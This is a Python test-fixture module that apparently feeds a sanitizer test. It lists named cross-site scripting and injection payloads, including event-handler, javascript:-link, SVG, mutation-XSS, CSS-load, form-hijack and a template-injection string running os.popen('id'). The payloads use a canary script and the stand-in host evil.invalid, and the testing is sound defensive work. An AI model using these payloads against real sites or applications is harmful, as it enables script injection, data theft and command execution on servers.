"""What was tried to make a page run something, or fetch something.

Each attack calls ``ran()`` or asks for something of ``evil.invalid`` if it has its way.
"""

from __future__ import annotations

from base64 import b64encode

_RUN = "(window.RAN=window.RAN||[]).push(`{name}`)"
_EVIL = "https://evil.invalid/{name}"

# Name -> the attack. {run} is a script that tells on itself, {evil} an address that nobody has.
_TRIED = {
    "script": "<script>{run}</script>",
    "script-cased": "<ScRiPt type=module>{run}</sCrIpT >",
    "script-src": '<script src="{evil}.js"></script>',
    "script-split": "<scr<script>ipt>{run}</scr</script>ipt>",
    "end-of-data": "</script><script>{run}</script>",
    "end-of-style": "</style><script>{run}</script>",
    "end-of-title": "</title><script>{run}</script>",
    "end-of-main": "</div></main></body></html><script>{run}</script><img src=x onerror='{run}'>",
    "end-of-comment": "--><script>{run}</script><!--",
    "comment": "<!--><script>{run}</script>-->",
    "cdata": "<![CDATA[><img src=x onerror='{run}'>]]>",
    "declaration": "<!x><img src=x onerror='{run}'><?y><img src=x onerror='{run}'>",
    "onerror": "<img src=x alt='' onerror='{run}'>",
    "onerror-bare": "<img/src=x/alt=''/onerror={run}>",
    "onerror-open": "<img src=x alt='' onerror='{run}' ",
    "attribute-end": "\"><img src=x alt='' onerror='{run}'><a title=\"",
    "attribute-end-single": "'><img src=x alt='' onerror=\"{run}\"><a title='",
    "onload-body": "<body onload='{run}'>",
    "onclick": "<p onclick='{run}' onmouseover='{run}'>Press</p>",
    "onfocus": "<p tabindex=0 autofocus onfocus='{run}'>Focus</p>",
    "ontoggle": "<details open ontoggle='{run}'><summary>Open</summary></details>",
    "onanimation": "<p style='animation: x 1s' onanimationstart='{run}'>Move</p>",
    "javascript": "<a href='javascript:{run}'>Press</a>",
    "javascript-hidden": "<a href='&#106;ava\tscript&colon;{run}'>Press</a>",
    "javascript-markdown": "[Press](javascript:{run})",
    "javascript-reference": "[Press][1]\n\n[1]: javascript:{run}",
    "autolink": "<javascript:{run}>",
    "data-html": "<a href='data:text/html,<script>{run}</script>'>Press</a>",
    "data-picture": "<img alt='' src='data:image/svg+xml;base64,{svg}'>",
    "svg-onload": "<svg onload='{run}'><circle r=5 /></svg>",
    "svg-script": "<svg><script>{run}</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='javascript:{run}'/>Press</a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml;base64,{svg}#x'></use></svg>",
    "math": "<math href='javascript:{run}'><mtext><img src=x onerror='{run}'></mtext></math>",
    "mutation": "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "textarea": "<textarea><p title='</textarea><img src=x onerror={run}>'></textarea>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
    "template": "<template shadowrootmode=open><img src=x onerror='{run}'></template>",
    "iframe": "<iframe src='{evil}'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "iframe-javascript": "<iframe src='javascript:parent.{run}'></iframe>",
    "object": "<object data='{evil}'></object><embed src='{evil}'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={evil}'>",
    "base": "<base href='{evil}/'>",
    "link": "<link rel=stylesheet href='{evil}.css'><link rel=preload as=image href='{evil}.png'>",
    "style-import": "<style>@import url({evil}.css); body {{ background: url({evil}.png) }}</style>",
    "style-url": "<p style='background: url({evil}.png)'>Look</p>",
    "style-image-set": "<p style='background: image-set(\"{evil}.png\" 1x)'>Look</p>",
    "style-list": "<ul><li style='list-style: url({evil}.png)'>Look</li></ul>",
    "style-variable": "<p style='--x: url({evil}.png); color: red; background: var(--x)'>Look</p>",
    "style-over-all": "<p style='position: fixed; inset: 0; z-index: 99'>Look</p>",
    "form": "<form action='{evil}'><input name=q><button>Send</button></form>",
    "formaction": "<button formaction='javascript:{run}'>Send</button>",
    "media": "<video src='{evil}.mp4' onerror='{run}' autoplay></video><audio src='{evil}.mp3'>",
    "picture-source": "<picture><source srcset='{evil}.png'></picture>",
    "background": "<table background='{evil}.png'><tr><td background='{evil}.png'>x</td></tr></table>",
    "ping": "<a href='#x' ping='{evil}'>Press</a>",
    "clobber": "<img alt='' src='data:image/svg+xml;base64,{svg}' name=querySelectorAll id=parts>",
    "part": "<div data-sc-place=0></div><div class=sc-alive data-kind=form></div>",
    "template-language": "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}{{% for x in y %}}",
    "entities": "&lt;script&gt;{run}&lt;/script&gt;",
    "null": "<\0script>{run}</\0script><img src=x o\0nerror='{run}'>",
    "line-separator": "\u2028<script>{run}</script>\u2029",
}


def run_of(name: str) -> str:
    """Return a script that tells on itself."""
    return _RUN.format(name=name)


def svg_of(name: str) -> str:
    """Return a drawing that does all that a drawing can."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 9 9" onload="{run_of(name)}"><script>{run_of(name)}</script>'
        f'<script href="{_EVIL.format(name=name)}.js"/><image xlink:href="{_EVIL.format(name=name)}"/>'
        f"<style>@import url({_EVIL.format(name=name)}.css);</style><foreignObject><body "
        f'xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{run_of(name)}"/></body>'
        f'</foreignObject><a href="javascript:{run_of(name)}"><path id="x" d="M0 0h9v9z"/></a></svg>'
    )


def _made(name: str, attack: str, at: str) -> str:
    full = f"{name}@{at}"
    return attack.format(
        run=run_of(full),
        evil=_EVIL.format(name=full),
        svg=b64encode(svg_of(full).encode()).decode(),
    )


def attacks(at: str) -> dict[str, str]:
    """Return every attack by name, so worded that it tells where it was tried."""
    return {name: _made(name, attack, at) for name, attack in _TRIED.items()}
